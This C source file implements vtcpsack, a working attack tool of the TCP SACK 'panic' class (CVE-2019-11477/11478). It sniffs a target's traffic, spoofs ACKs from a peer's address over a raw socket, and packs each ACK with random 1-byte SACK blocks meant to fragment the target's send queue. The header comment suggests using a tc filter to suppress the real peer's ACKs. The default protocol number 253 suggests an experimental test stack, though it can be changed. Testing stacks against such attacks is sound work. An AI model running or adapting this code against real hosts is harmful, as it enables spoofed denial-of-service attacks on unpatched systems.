// SPDX-License-Identifier: GPL-2.0
/*
 * vtcpsack: a receiver that acknowledges so as to cut the sender's queue
 * into pieces (the class of CVE-2019-11477/11478).
 *
 *   vtcpsack -s PEER -d TARGET -S PEER_PORT -D TARGET_PORT -i DEV
 *            [-t SECONDS] [-r ACKS_PER_S] [-a STEP] [-b BLOCKS] [-P PROTO]
 *
 * It watches the target's data on DEV (an AF_PACKET socket) and, RATE
 * times a second, sends an ACK from PEER (IP_HDRINCL, TTL 33, so that a
 * tc filter can drop the real peer's own ACKs and keep these): the
 * cumulative ACK moves STEP bytes on, never past what the target sent,
 * and BLOCKS fresh 1-byte SACK blocks land at random above it, each of
 * which costs the target two splits of its queue. The window offered is
 * the largest the field holds. Timestamps are not sent: turn them off.
 * At the end it prints "acks N" and "acked BYTES".
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/filter.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define ACK_FLAG	0x10
#define SYN_FLAG	0x02
#define RST_FLAG	0x04
#define FIN_FLAG	0x01
#define OUR_TTL		33
#define MAX_BLOCKS	4
#define TICK		0.005	/* seconds */

struct attack {
	uint32_t peer, target;		/* network order */
	uint16_t peer_port, target_port;
	int proto;
	/* What the target's segments told. */
	bool known;
	uint32_t una;			/* our cumulative ACK */
	uint32_t hi;			/* past the highest byte it sent */
	uint32_t its_ack;		/* its ACK field: our sequence number */
	uint64_t acks, acked;
};

static uint64_t rng = 88172645463325252ULL;

static uint32_t below(uint32_t n)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return n ? (uint32_t)(rng % n) : 0;
}

static void die(const char *what)
{
	perror(what);
	exit(1);
}

static uint32_t get32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | p[1] << 16 | p[2] << 8 | p[3];
}

static void put16(uint8_t *p, uint16_t v)
{
	p[0] = v >> 8;
	p[1] = v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, v >> 16);
	put16(p + 2, v);
}

static uint16_t get16(const uint8_t *p)
{
	return p[0] << 8 | p[1];
}

/* The target's segment in @frame: what it sent, and what it acknowledged. */
static void learn(struct attack *a, const uint8_t *frame, ssize_t n)
{
	const struct iphdr *ip = (const void *)(frame + ETH_HLEN);
	const uint8_t *th;
	unsigned int ihl, doff, tot;
	uint32_t seq, end;

	if (n < ETH_HLEN + 40 || ip->protocol != a->proto ||
	    ip->saddr != a->target || ip->daddr != a->peer)
		return;
	ihl = ip->ihl * 4;
	th = frame + ETH_HLEN + ihl;
	if (ihl < 20 || n < ETH_HLEN + ihl + 20 ||
	    get16(th) != a->target_port || get16(th + 2) != a->peer_port ||
	    (th[13] & (SYN_FLAG | RST_FLAG)))
		return;
	doff = (th[12] >> 4) * 4;
	tot = ntohs(ip->tot_len);
	seq = get32(th + 4);
	end = seq + (tot > ihl + doff ? tot - ihl - doff : 0) +
	      !!(th[13] & FIN_FLAG);
	if (!a->known) {
		a->una = seq;
		a->hi = seq;
		a->known = true;
	}
	if ((int32_t)(end - a->hi) > 0)
		a->hi = end;
	if (th[13] & ACK_FLAG)
		a->its_ack = get32(th + 8);
}

static void drain(int pfd, struct attack *a)
{
	uint8_t frame[256];
	ssize_t n;

	while ((n = recv(pfd, frame, sizeof(frame),
			 MSG_DONTWAIT | MSG_TRUNC)) > 0)
		learn(a, frame, n);
}

static int open_watch(const char *dev)
{
	struct sockaddr_ll sll = { .sll_family = AF_PACKET,
				   .sll_protocol = htons(ETH_P_IP) };
	int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));

	if (fd < 0)
		die("socket(AF_PACKET)");
	sll.sll_ifindex = if_nametoindex(dev);
	if (!sll.sll_ifindex)
		die(dev);
	if (bind(fd, (struct sockaddr *)&sll, sizeof(sll)))
		die("bind(AF_PACKET)");
	return fd;
}

static uint32_t sum16(const uint8_t *p, size_t n, uint32_t sum)
{
	size_t i;

	for (i = 0; i + 1 < n; i += 2)
		sum += get16(p + i);
	if (n & 1)
		sum += p[n - 1] << 8;
	return sum;
}

static uint16_t checksum(const struct attack *a, const uint8_t *seg,
			 size_t len)
{
	uint8_t ph[12];
	uint32_t sum;

	memcpy(ph, &a->peer, 4);
	memcpy(ph + 4, &a->target, 4);
	ph[8] = 0;
	ph[9] = a->proto;
	put16(ph + 10, len);
	sum = sum16(seg, len, sum16(ph, sizeof(ph), 0));
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum;
}

static int cmp_u32(const void *x, const void *y)
{
	uint32_t p = *(const uint32_t *)x, q = *(const uint32_t *)y;

	return p < q ? -1 : p > q;
}

/* BLOCKS distinct 1-byte blocks above the ACK, as offsets from it. */
static unsigned int pick_blocks(const struct attack *a, unsigned int want,
				uint32_t *off)
{
	uint32_t room = a->hi - a->una;
	unsigned int i, n = 0;

	if (room < 2)
		return 0;
	for (i = 0; i < want; i++)
		off[n++] = 1 + below(room - 1);
	qsort(off, n, sizeof(*off), cmp_u32);
	for (i = 1; i < n; i++)
		if (off[i] == off[i - 1])
			off[i] = 0;
	return n;
}

static void send_ack(int rfd, struct attack *a, unsigned int blocks)
{
	uint8_t pkt[20 + 20 + 4 + 8 * MAX_BLOCKS] = { 0 };
	struct sockaddr_in to = { .sin_family = AF_INET,
				  .sin_addr.s_addr = a->target };
	struct iphdr *ip = (struct iphdr *)pkt;
	uint8_t *th = pkt + 20, *o = th + 20;
	uint32_t off[MAX_BLOCKS];
	unsigned int i, n, len;

	n = pick_blocks(a, blocks, off);
	o[0] = 1;
	o[1] = 1;
	o[2] = 5;
	len = 4;
	for (i = 0; i < n; i++) {
		if (!off[i])
			continue;
		put32(o + len, a->una + off[i]);
		put32(o + len + 4, a->una + off[i] + 1);
		len += 8;
	}
	o[3] = len - 2;
	if (len == 4)
		len = 0;		/* no block fits: a plain ACK */
	put16(th, a->peer_port);
	put16(th + 2, a->target_port);
	put32(th + 4, a->its_ack);
	put32(th + 8, a->una);
	th[12] = (5 + len / 4) << 4;
	th[13] = ACK_FLAG;
	put16(th + 14, 0xffff);
	put16(th + 16, checksum(a, th, 20 + len));
	ip->version = 4;
	ip->ihl = 5;
	ip->ttl = OUR_TTL;
	ip->protocol = a->proto;
	ip->tot_len = htons(40 + len);
	ip->saddr = a->peer;
	ip->daddr = a->target;
	if (sendto(rfd, pkt, 40 + len, 0, (struct sockaddr *)&to,
		   sizeof(to)) < 0 && errno != ENOBUFS)
		die("sendto");
	a->acks++;
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void sleep_until(double t)
{
	struct timespec ts = { .tv_sec = (time_t)t,
			       .tv_nsec = (long)((t - (time_t)t) * 1e9) };

	while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &ts, NULL) ==
	       EINTR)
		;
}

static void usage(void)
{
	fprintf(stderr, "usage: vtcpsack -s PEER -d TARGET -S PEER_PORT "
		"-D TARGET_PORT -i DEV [-t SECONDS] [-r ACKS_PER_S] "
		"[-a STEP] [-b BLOCKS] [-P PROTO]\n");
	exit(2);
}

int main(int argc, char **argv)
{
	struct attack a = { .proto = 253 };
	unsigned int rate = 2000, step = 300, blocks = 4;
	double secs = 10, start, next, due = 0;
	const char *dev = NULL;
	int c, one = 1, pfd, rfd;
	uint32_t before;

	while ((c = getopt(argc, argv, "s:d:S:D:i:t:r:a:b:P:")) != -1) {
		switch (c) {
		case 's': a.peer = inet_addr(optarg); break;
		case 'd': a.target = inet_addr(optarg); break;
		case 'S': a.peer_port = atoi(optarg); break;
		case 'D': a.target_port = atoi(optarg); break;
		case 'i': dev = optarg; break;
		case 't': secs = atof(optarg); break;
		case 'r': rate = atoi(optarg); break;
		case 'a': step = atoi(optarg); break;
		case 'b': blocks = atoi(optarg); break;
		case 'P': a.proto = atoi(optarg); break;
		default: usage();
		}
	}
	if (!dev || !a.peer || !a.target || !a.peer_port || !a.target_port ||
	    !rate || blocks > MAX_BLOCKS)
		usage();
	pfd = open_watch(dev);
	rfd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (rfd < 0 || setsockopt(rfd, IPPROTO_IP, IP_HDRINCL, &one,
				  sizeof(one)))
		die("raw socket");
	/* Ticks of TICK seconds, each with its share of the ACKs. */
	start = next = now_s();
	while (now_s() - start < secs) {
		drain(pfd, &a);
		due += rate * TICK;
		for (; a.known && due >= 1; due -= 1) {
			before = a.una;
			a.una += (a.hi - a.una < step) ? a.hi - a.una : step;
			a.acked += a.una - before;
			send_ack(rfd, &a, blocks);
		}
		next += TICK;
		sleep_until(next);
	}
	printf("acks %llu\nacked %llu\n", (unsigned long long)a.acks,
	       (unsigned long long)a.acked);
	return 0;
}
